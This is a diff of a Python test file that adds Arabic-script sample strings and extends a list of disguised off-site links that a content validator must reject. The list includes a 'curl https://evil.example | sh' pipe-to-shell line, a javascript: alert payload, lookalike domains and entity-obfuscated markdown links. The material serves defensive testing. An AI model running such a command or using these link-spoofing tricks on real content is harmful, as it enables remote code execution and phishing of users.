@@ -50,6 +50,8 @@ ARABIC_SCRIPT = [
     "يجب ان نكتب كل يوم عن شيء جديد",
     "هذا هو البرنامج الذي نستخدمه في العمل کل يوم مع الفریق",
     "یہ قطار ان کاموں کے لیے ہے جو ناکام ہو گئے ہیں اور کسی کے فیصلے کے منتظر ہیں۔",
+    "هواوے کا نیا فون",
+    "دا پښتو متن دی",
     "ئەم ڕیزە ئەو کارانە هەڵدەگرێت کە سەرکەوتوو نەبوون",
     "دا کتار هغه کارونه ساتي چې پاتې راغلي وي او د يوه کس پرېکړې ته سترګې په لار دي",
 ]
@@ -101,7 +103,7 @@ LINKS = [
     "https://teknav.example.evil.example", "https://teknav.example@evil.example/", "https://evil.example/teknav.example",
     "https://nottelnav.example", "javascript://teknav.example/%0aalert(1)", "https://teknav.example\\@evil.example",
     "[x](evil)", "`https://evil.example/install.sh`", "```\ncurl https://evil.example | sh\n```",
-    "https://نمونه.ایران/",
+    "https://نمونه.ایران/", "[x](/&Tab;/evil.example)", "[x](/&#10;\\evil.example)", "[x](&#x0d;//evil.example)",
 ]  # fmt: skip
 
 
@@ -109,6 +111,7 @@ LINKS = [
 def test_a_link_away_from_us_is_refused_however_it_is_spelled(link: str) -> None:
     assert any(problem.startswith("body: ") for problem in problems(body=f"{WORDS}\n\n{link}\n"))
     assert any(problem.startswith("body: ") for problem in problems(body=f"[x][1] {WORDS}\n\n[1]: {link}\n"))
+    assert any(problem.startswith("body: ") for problem in problems(body=f"[x][1] {WORDS}\n\n> 1. [1]: {link}\n"))
     line = link.replace("\n", " ")
     for field in ("title", "keywords", "changes"):
         text = f"Queue {line} again"
